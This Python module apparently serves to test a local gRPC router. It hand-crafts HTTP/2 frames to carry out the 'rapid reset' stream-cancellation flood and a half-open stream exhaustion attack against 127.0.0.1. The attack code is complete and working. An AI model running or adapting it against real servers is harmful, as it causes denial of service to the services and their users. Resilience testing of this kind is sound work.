"""HTTP/2 spoken by hand: what no gRPC library would send."""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
ACK, END_HEADERS = 1, 4
CANCEL = 8
BATCH = 100  # streams that are opened in one write
READ_BYTES = 1 << 16
SEND_TIMEOUT_S = 1.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request_headers(path: str) -> bytes:
    """A gRPC call's header block: literals without indexing, so that each stream's is the same."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "router",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    block = b""
    for name, value in fields.items():
        block += b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


class Connection:
    """Opens streams as fast as the server's socket takes them."""

    def __init__(self, port: int, path: str) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port))
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._headers = request_headers(path)
        self._next_stream = 1
        self.opened = 0

    def open_streams(self, count: int, *, reset: bool) -> bool:
        """Opens streams that send no message; `reset`: and cancels each at once. Returns whether the server still
        listens."""
        data = bytearray()
        for _ in range(count):
            data += frame(HEADERS, END_HEADERS, self._next_stream, self._headers)
            if reset:
                data += frame(RST_STREAM, 0, self._next_stream, struct.pack(">I", CANCEL))
            self._next_stream += 2
        try:
            self._acknowledge()
            self._socket.settimeout(SEND_TIMEOUT_S)
            self._socket.sendall(data)
        except OSError:  # closed, or not read any more
            return False
        self.opened += count
        return True

    def close(self) -> None:
        self._socket.close()

    def _acknowledge(self) -> None:
        """Reads what there is. The server's settings and pings are acknowledged blindly: it would wait for that."""
        self._socket.setblocking(False)
        try:
            while read := self._socket.recv(READ_BYTES):
                if read[3:4] == bytes([SETTINGS]) and not self.opened:
                    self._socket.setblocking(True)
                    self._socket.sendall(frame(SETTINGS, ACK, 0))
                    self._socket.setblocking(False)
        except BlockingIOError:
            return
        raise ConnectionError("the server has closed the connection")


def rapid_reset(port: int, path: str, duration_s: float) -> int:
    """Streams opened and cancelled in that time, over as many connections as it takes. One at a time."""
    end_s, opened = time.monotonic() + duration_s, 0
    while time.monotonic() < end_s:
        connection = Connection(port, path)
        while time.monotonic() < end_s and connection.open_streams(BATCH, reset=True):
            pass
        opened += connection.opened
        connection.close()
    return opened


def half_open(port: int, path: str, count: int, duration_s: float) -> int:
    """Opens so many streams, says nothing on them, and holds them for that time. Returns how many the socket took."""
    connection = Connection(port, path)
    end_s = time.monotonic() + duration_s
    while connection.opened < count and connection.open_streams(BATCH, reset=False):
        pass
    time.sleep(max(0.0, end_s - time.monotonic()))
    connection.close()
    return connection.opened
